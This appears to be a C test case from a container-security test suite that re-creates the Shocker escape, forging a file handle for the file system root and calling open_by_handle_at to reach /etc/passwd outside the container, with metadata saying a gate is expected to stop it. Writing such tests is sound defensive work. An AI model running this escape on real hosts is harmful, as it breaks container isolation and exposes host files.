// Opens a file by a handle that it made up, past every folder on the way: the escape that was called Shocker.
// @technique T1611
// @weakness CWE-22
// @stopped-by gate
// @options {"policy":"compat"}
// @control none: it depends on the file system whether handles can be made
// @attempts 2
#include "../attack.h"

int main(void) {
  struct {
    struct file_handle handle;
    unsigned char bytes[64];
  } h = {.handle.handle_bytes = 64};
  int id;
  CONTROL("a folder", open("/", O_RDONLY | O_DIRECTORY));
  if (name_to_handle_at(AT_FDCWD, "/etc/passwd", &h.handle, &id, 0) < 0) {
    // The first inode of most file systems is their root.
    h.handle.handle_bytes = 8;
    h.handle.handle_type = 1;
    memcpy(h.handle.f_handle, (unsigned[]){2, 0}, 8);
  }
  ATTEMPT("open by handle", open_by_handle_at(3, &h.handle, O_RDONLY));
  ATTEMPT("open by handle, from the working directory", open_by_handle_at(AT_FDCWD, &h.handle, O_RDONLY));
  return 0;
}
